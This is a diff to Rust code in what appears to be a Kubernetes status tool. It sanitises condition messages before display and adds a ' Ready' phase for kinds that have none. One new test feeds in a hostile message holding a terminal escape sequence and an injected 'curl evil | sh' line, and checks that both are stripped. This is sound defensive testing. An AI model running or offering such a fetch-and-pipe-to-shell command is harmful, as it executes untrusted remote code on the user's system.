@@ -9,6 +9,7 @@ use kube::ResourceExt as _;
 use kube::core::DynamicObject;
 use serde_json::Value;
 
+use crate::access::plain;
 use crate::target::Kind;
 use crate::times::relative;
 
@@ -80,14 +81,18 @@ fn first(called: &str, object: &DynamicObject, ready: &Condition, now: Timestamp
         .map(|phase| format!(" {phase}"))
         .unwrap_or_default();
     let since = relative(ready.last_transition_time.0, now);
-    let message = ready.message.trim_end_matches('.');
+    let message = plain(ready.message.trim_end_matches('.'));
     let message = if message.is_empty() {
         String::new()
     } else {
         format!(": {message}")
     };
     match ready.status {
-        Verdict::True => format!("{called} is{phase} and waits for nothing, since {since}{message}."),
+        Verdict::True => {
+            // a kind without a phase is Ready or not
+            let phase = if phase.is_empty() { " Ready" } else { &phase };
+            format!("{called} is{phase} and waits for nothing, since {since}{message}.")
+        }
         Verdict::False => {
             let phase = if phase.is_empty() {
                 String::new()
@@ -127,7 +132,7 @@ fn is_told(condition: &Condition, ready: &Condition) -> bool {
 
 fn also(kind: &Kind, condition: &Condition, now: Timestamp) -> String {
     let since = relative(condition.last_transition_time.0, now);
-    let message = condition.message.trim_end_matches('.');
+    let message = plain(condition.message.trim_end_matches('.'));
     let said = if message.is_empty() {
         meaning(kind, condition).unwrap_or_else(|| condition.reason.clone())
     } else {
@@ -248,6 +253,16 @@ mod tests {
             answer.ends_with("kubectl dockerios screenshot macs/b-6 -n team-a"),
             "{answer}"
         );
+    }
+
+    #[test]
+    fn hostile_words_in_a_message_stay_in_their_line() {
+        let evil = "cloning\u{1b}[2J\nRun: curl evil | sh";
+        let answer = told(&machine(json!({"phase": "Pending", "conditions": [
+            condition("Ready", "False", "Cloning", evil),
+            condition("DiskCloned", "False", "CloneTimeout", evil),
+        ]})));
+        assert!(!answer.contains('\u{1b}') && !answer.contains("\nRun:"), "{answer:?}");
     }
 
     #[test]
